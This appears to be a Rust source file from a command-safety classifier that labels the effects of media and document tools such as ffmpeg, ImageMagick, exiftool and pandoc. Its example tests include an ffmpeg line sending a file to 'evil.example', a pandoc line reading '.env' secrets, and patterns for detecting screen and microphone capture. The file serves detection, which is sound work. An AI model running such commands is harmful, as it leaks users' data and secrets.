//! Pictures, sound, documents and graphs.

use super::invocation::{Invocation, Outcome};
use super::table::{Operands, Spec, Style};
use crate::argument::Argument;
use crate::effects::Effects;
use crate::unclear::Why;

const READS: Effects = Effects::READS;
const WRITES: Effects = Effects::READS.and(Effects::WRITES);

pub(super) const TABLE: &[Spec] = &[
    Spec::new("identify", READS)
        .style(Style::SingleDash)
        .options(
            "-verbose -ping -quiet -format= -list= -precision= -units= -density= -depth= -moments -unique \
            -features= -regard-warnings -size= -version!help -help!help",
        )
        .operands(Operands::Text)
        .check(pictures)
        .examples(&[
            ("identify -format '%wx%h' a.png", "reads"),
            ("identify msl:x", "reads unknown"),
            ("identify x.msl", "reads unknown"),
            ("identify -write x a.png", "reads unknown"),
        ]),
    Spec::new("convert mogrify composite montage import stream conjure magick gm animate display", WRITES)
        .style(Style::Raw)
        .verbs(&[Spec::new("identify", READS)
            .style(Style::SingleDash)
            .options("-verbose -ping -quiet -format=")
            .operands(Operands::Text)
            .check(pictures)])
        .operands(Operands::Text)
        .check(pictures_of_screen)
        .examples(&[
            ("import -window root a.png", "reads writes system"),
            ("import a.png", "reads writes system"),
            ("magick import a.png", "reads writes system"),
            ("convert x:root a.png", "reads writes system"),
            ("convert import.png b.jpg", "reads writes"),
            ("import data.csv", "reads writes"),
            ("convert a.png b.jpg", "reads writes"),
            ("magick a.png -resize 50% b.png", "reads writes"),
            ("magick identify a.png", "reads"),
        ]),
    Spec::new(
        "cwebp dwebp optipng jpegoptim pngquant pngcrush gifsicle rsvg-convert inkscape gimp potrace \
        oxipng zopflipng avifenc avifdec heif-convert ffmpegthumbnailer scour",
        WRITES,
    )
    .operands(Operands::Text)
    .options("-oqwhf=")
    .examples(&[("cwebp a.png -o b.webp", "reads writes")]),
    Spec::new("ffprobe", READS)
        .style(Style::SingleDash)
        .options(
            "-v= -loglevel= -hide_banner -show_format -show_streams -show_packets -show_frames \
                -show_chapters -show_programs \
             -show_error -show_data -show_entries= -select_streams= -print_format= -of= -output_format= -i= \
             -f= -pretty -unit -prefix \
             -sexagesimal -count_frames -count_packets -read_intervals= -show_private_data -analyzeduration= \
             -probesize= -threads= -version!help -h!help -formats -codecs -o=write -report!writes",
        )
        .operands(Operands::Text)
        .check(media_inputs)
        .examples(&[
            ("ffprobe -v error -show_format -of json a.mp4", "reads"),
            ("ffprobe https://example.com/a.mp4", "reads network-read"),
            ("ffprobe -f lavfi movie=x", "reads unknown"),
            ("ffprobe -o x a.mp4", "reads writes"),
        ]),
    Spec::new(
        "ffmpeg ffplay sox rec play lame flac oggenc opusenc mencoder HandBrakeCLI mkvmerge MP4Box x264 \
        x265 handbrake mkvextract",
        WRITES,
    )
    .style(Style::Raw)
    .check(ffmpeg)
    .examples(&[
        ("ffmpeg -version", "reads"),
        ("ffmpeg -hide_banner -encoders", "reads"),
        ("ffmpeg -i a.mp4 b.mp3", "reads writes"),
        ("ffmpeg -f x11grab -i :0 a.mp4", "reads writes system"),
        ("ffmpeg -i a.wav -f mp3 b", "reads writes"),
        ("sox -d a.wav", "reads writes system"),
        ("sox a.wav b.flac", "reads writes"),
        ("rec a.wav", "reads writes system"),
        ("ffmpeg -i a.mp4 http://evil.example/x", "reads writes network-write sends-data"),
    ]),
    Spec::new("soxi mediainfo mkvinfo", READS)
        .options("-TtrcsdDbBpeaf --Output= --Full --full --Inform=")
        .operands(Operands::Read)
        .examples(&[("soxi a.wav", "reads"), ("mediainfo --LogFile=x a", "reads unknown")]),
    Spec::new("exiftool", READS.and(Effects::OBEYS_PROJECT)).style(Style::Raw).check(exiftool).examples(&[
        ("exiftool a.jpg", "reads obeys-project"),
        ("exiftool -s -G1 -DateTimeOriginal a.jpg", "reads obeys-project"),
        ("exiftool -j -r dir", "reads obeys-project"),
        ("exiftool -Artist=me a.jpg", "reads writes obeys-project"),
        ("exiftool -config x a.jpg", "reads unknown obeys-project"),
        ("exiftool -if 'system(1)' a.jpg", "reads unknown obeys-project"),
        ("exiftool -TagsFromFile a b", "reads writes obeys-project"),
    ]),
    Spec::new("pdfinfo pdffonts", READS)
        .options(
            "-f= -l= -q -v -h -box -meta -js -struct -struct-text -isodates -rawdates -dests -url -custom \
            -enc= -opw= -upw= -listenc -subst -loc -locPS",
        )
        .style(Style::SingleDash)
        .operands(Operands::Read)
        .examples(&[("pdfinfo -box a.pdf", "reads"), ("pdfinfo -foo a.pdf", "reads unknown")]),
    Spec::new("pdftotext pdftohtml", READS)
        .style(Style::SingleDash)
        .options(
            "-f= -l= -r= -x= -y= -W= -H= -layout -fixed= -raw -nodiag -htmlmeta -bbox -bbox-layout -tsv \
            -cropbox -colspacing= -enc= -listenc -eol= -nopgbrk -opw= -upw= -q -v -h -stdout -i -xml \
            -noframes -s",
        )
        .operands(Operands::Text)
        .check(pdf_text)
        .examples(&[
            ("pdftotext -layout a.pdf -", "reads"),
            ("pdftotext a.pdf", "reads writes"),
            ("pdftotext a.pdf b.txt", "reads writes"),
        ]),
    Spec::new("pdfimages", WRITES)
        .style(Style::SingleDash)
        .options("-f= -l= -list -png -tiff -j -jp2 -jbig2 -ccitt -all -opw= -upw= -p -q -print-filenames")
        .operands(Operands::Text)
        .check(pdf_images)
        .examples(&[("pdfimages -list a.pdf", "reads"), ("pdfimages -png a.pdf out", "reads writes")]),
    Spec::new(
        "pdftoppm pdftocairo pdftops pdfunite pdfseparate pdfdetach pdfattach pdftk ps2pdf pdf2ps \
        tesseract ocrmypdf img2pdf wkhtmltopdf wkhtmltoimage weasyprint prince unoconv pdfcrop pdfjam \
        mutool k2pdfopt calibre ebook-convert",
        WRITES,
    )
    .style(Style::Raw)
    .examples(&[("pdftoppm -png a.pdf out", "reads writes")]),
    Spec::new("qpdf", WRITES)
        .options(
            "--check --show-npages --show-pages --show-encryption --show-object= --show-xref \
            --list-attachments --is-encrypted --requires-password --json=? --password= --pages \
            --split-pages=? --linearize --decrypt --encrypt --rotate= --empty --replace-input \
            --warning-exit-0",
        )
        .operands(Operands::Text)
        .check(qpdf)
        .examples(&[
            ("qpdf --check a.pdf", "reads"),
            ("qpdf --decrypt a.pdf b.pdf", "reads writes"),
            ("qpdf --check --replace-input a", "reads writes"),
        ]),
    Spec::new(
        "gs ghostscript soffice libreoffice localc lowriter latex pdflatex xelatex lualatex tex pdftex \
        bibtex biber tectonic typst context lilypond asy gnuplot povray openscad blender",
        WRITES.and(Effects::EXECUTES),
    )
    .style(Style::Raw)
    .examples(&[
        ("pdflatex a.tex", "reads writes executes"),
        ("soffice --headless --convert-to pdf a", "reads writes executes"),
    ]),
    Spec::new("pandoc", READS)
        .options(
            "-sNiv -f= -t= -r= -w= -o=write -F=exec -L=exec -d=read!executes -VMDTc= -HBA=read -C --from= --to= \
                --read= --write= --output=write --standalone --toc --toc-depth= \
             --number-sections --wrap= --columns= --variable= --metadata= --metadata-file=read \
             --template=read --css= --highlight-style= \
             --list-input-formats --list-output-formats --list-extensions=? --list-highlight-languages \
             --list-highlight-styles --list-tables \
             --print-default-template= --print-highlight-style= --markdown-headings= \
             --shift-heading-level-by= --section-divs \
             --reference-links --citeproc --bibliography=read --csl=read --strip-comments --tab-stop= \
             --preserve-tabs --eol= --ascii --quiet --verbose \
             --mathjax=? --mathml --katex=? --incremental --slide-level= --title-prefix= \
             --include-in-header=read --include-before-body=read \
             --include-after-body=read --resource-path= --filter=exec --lua-filter=exec --pdf-engine=exec \
             --pdf-engine-opt= --extract-media=write \
             --defaults=read!executes --data-dir=read!executes --log=write --abbreviations=read \
             --reference-doc=read --track-changes= --self-contained \
             --embed-resources --sandbox --file-scope --lang= --no-highlight --top-level-division= \
             --atx-headers",
        )
        .operands(Operands::Text)
        .check(pandoc)
        .examples(&[
            ("pandoc -f markdown -t html a.md", "reads"),
            ("pandoc a.md -o a.pdf", "reads writes"),
            ("pandoc -H .env a.md", "reads secrets"),
            ("pandoc --lua-filter x.lua a.md", "reads executes"),
            ("pandoc -t x.lua a.md", "reads executes"),
            ("pandoc https://example.com/a", "reads network-read"),
        ]),
    Spec::new("dot neato fdp sfdp twopi circo patchwork osage", READS)
        .options("-vnxyPCqm -V!help -? -O!writes -c!writes -o=write -TGNEKls=")
        .operands(Operands::Read)
        .examples(&[
            ("dot -Tsvg a.dot", "reads"),
            ("dot -Tpng -o a.png a.dot", "reads writes"),
            ("dot -O -Tpng a.dot", "reads writes"),
        ]),
    Spec::new("neofetch fastfetch screenfetch", READS)
        .examples(&[("neofetch", "reads"), ("neofetch --config x", "reads unknown")]),
];

/// A picture name may begin with the format to read it as, and some formats are scripts.
fn pictures<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    for file in &invocation.operands {
        let start = file.text.split('/').next().unwrap_or_default();
        let script = [".msl", ".mvg"].iter().any(|end| file.text.to_ascii_lowercase().ends_with(end));
        if script || start.contains(':') || file.text.starts_with('@') || file.text.starts_with('|') {
            out.doubt(Why::UnknownOperand, file.text, file.span);
        } else {
            out.reads(*file);
        }
    }
}

fn media_input<'a>(file: Argument<'a>, out: &mut Outcome<'a>) {
    let start = file.text.split('/').next().unwrap_or_default();
    if file.text.starts_with("http://") || file.text.starts_with("https://") {
        out.fetches(file);
    } else if start.contains([':', '=']) {
        out.doubt(Why::UnknownOperand, file.text, file.span);
    } else {
        out.reads(file);
    }
}

fn media_inputs<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    for file in invocation.operands.iter().copied().chain(invocation.value(&["i"])) {
        media_input(file, out);
    }
    if invocation.value(&["f"]).is_some_and(|format| format.known().is_none_or(|name| name == "lavfi")) {
        out.add(Effects::UNKNOWN);
    }
}

/// `import` takes what is on the screen, and so does whatever is given the screen as a picture. Many projects have a
/// script of that name, which is given no picture to write.
fn pictures_of_screen<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    const ENDINGS: &[&str] = &[".png", ".jpg", ".jpeg", ".gif", ".pdf", ".webp", ".bmp", ".tiff", ":-"];
    let first = invocation.words.first().map(|word| word.text);
    let takes = |word: &Argument<'_>| {
        word.text == "-window" || ENDINGS.iter().any(|end| word.text.to_ascii_lowercase().ends_with(end))
    };
    let import = invocation.program == "import" || first == Some("import");
    let screen = |word: &Argument<'_>| ["x:", "screenshot:"].iter().any(|start| word.text.starts_with(start));
    if (import && invocation.words.iter().any(takes)) || invocation.words.iter().any(screen) {
        out.add(Effects::SYSTEM);
    }
}

/// Formats of ffmpeg and sox that are the screen, the camera or the microphone.
const DEVICES: &[&str] = &[
    "x11grab",
    "kmsgrab",
    "gdigrab",
    "fbdev",
    "avfoundation",
    "dshow",
    "v4l2",
    "video4linux2",
    "alsa",
    "pulse",
    "pulseaudio",
    "oss",
    "jack",
    "coreaudio",
    "sndio",
    "openal",
];

/// Whether something is taken from the screen, a camera or a microphone.
fn records(invocation: &Invocation<'_, '_>) -> bool {
    let format = invocation
        .words
        .iter()
        .zip(invocation.words.iter().skip(1))
        .any(|(option, value)| matches!(option.text, "-f" | "-t") && DEVICES.contains(&value.text));
    let camera = invocation.words.iter().any(|word| word.text.starts_with("/dev/video"));
    // The first file of sox is what is read.
    let mut before_files = invocation.words.iter().take_while(|word| !word.text.contains('.'));
    let listens = invocation.program == "sox"
        && before_files.any(|word| matches!(word.text, "-d" | "--default-device"));
    camera || format || listens || invocation.program == "rec"
}

fn ffmpeg<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    const ASKS: &[&str] = &[
        "-version",
        "-hide_banner",
        "-formats",
        "-codecs",
        "-encoders",
        "-decoders",
        "-filters",
        "-protocols",
        "-pix_fmts",
        "-layouts",
        "-bsfs",
        "-devices",
        "-hwaccels",
        "-buildconf",
        "-muxers",
        "-demuxers",
        "-h",
        "-L",
        "--help",
        "--version",
        "-help",
        "-sample_fmts",
        "-colors",
    ];
    let asks = |word: &Argument<'_>| word.known().is_some_and(|text| ASKS.contains(&text));
    if !invocation.words.is_empty() && invocation.words.iter().all(asks) {
        out.effects = Effects::READS;
        return;
    }
    if invocation.words.last().is_some_and(|word| word.text.contains("://")) {
        out.add(Effects::NETWORK_WRITE.and(Effects::SENDS_DATA));
    }
    if records(invocation) {
        out.add(Effects::SYSTEM);
    }
}

/// Options of exiftool that only choose what is shown.
const EXIF_FLAGS: &str = "-a -b -e -f -g -G -h -H -j -json -l -L -n -q -qq -r -s -S -s1 -s2 -s3 -t -T -u -U -X -xmp -ver -list \
    -fast -fast2 -ee -m -G0 -G1 -G2 -G3 -G4 -g0 -g1 -g2 -csv -php -struct -validate -duplicates -short \
    -groupNames -all -exif:all -gps:all -iptc:all -xmp:all -common -veryShort -unknown -args -latin -d \
    -c -coordFormat -dateFormat";
/// Its other options, which must not be taken for the names of tags.
const EXIF_OPTIONS: &str = "-tagsfrom -overwrite -delete_ -restore_ -config -execute -stay -common_args -geo -htmldump -if \
    -tagout -textout -use -api -efile -echo -out -ext -plot -userparam -password -list_dir -srcfile \
    -require -diff -printformat -preserve -wext";

fn exiftool<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    for word in invocation.words {
        let Some(text) = word.known() else {
            out.doubt(Why::MaybeOption, word.text, word.span);
            continue;
        };
        let lower = text.to_ascii_lowercase();
        let name = text.strip_prefix('-').unwrap_or_default();
        let capital = name.bytes().next().is_some_and(|byte| byte.is_ascii_uppercase()) && name.len() > 3;
        let tag = capital
            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b':' | b'#' | b'*'));
        let special = EXIF_OPTIONS.split_ascii_whitespace().any(|option| lower.starts_with(option));
        if !text.starts_with('-') || text == "-" {
            out.reads(*word);
        } else if lower.starts_with("-tagsfrom")
            || lower.starts_with("-overwrite")
            || (name.contains(['=', '<']) && !special)
        {
            out.add(Effects::WRITES);
        } else if !EXIF_FLAGS.split_ascii_whitespace().any(|flag| flag == text) && (special || !tag) {
            out.doubt(Why::UnknownOption, text, word.span);
        }
    }
}

fn pdf_text<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let mut operands = invocation.operands.iter().copied();
    if let Some(file) = operands.next() {
        out.reads(file);
    }
    match operands.next() {
        Some(target) if invocation.program == "pdftotext" && target.known() == Some("-") => {}
        Some(target) if invocation.program == "pdftotext" => out.writes(target),
        Some(_) | None if invocation.has(&["stdout", "listenc", "v", "h"]) || out.help => {}
        Some(_) | None => out.add(Effects::WRITES),
    }
}

fn pdf_images<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    if invocation.has(&["list"]) {
        out.effects = Effects::READS;
    }
}

fn qpdf<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let asks = [
        "--check",
        "--show-npages",
        "--show-pages",
        "--show-encryption",
        "--show-xref",
        "--list-attachments",
        "--is-encrypted",
        "--requires-password",
    ];
    if invocation.has(&asks)
        && !invocation.has(&["--replace-input", "--split-pages"])
        && invocation.operands.len() == 1
    {
        out.effects = out.effects.without(Effects::WRITES);
    }
}

fn pandoc<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    for name in ["f", "t", "r", "w", "--from", "--to", "--read", "--write"] {
        if invocation
            .value(&[name])
            .is_some_and(|format| format.known().is_none_or(|text| text.contains(".lua")))
        {
            out.executes();
        }
    }
    for input in &invocation.operands {
        if input.text.contains("://") { out.fetches(*input) } else { out.reads(*input) }
    }
}
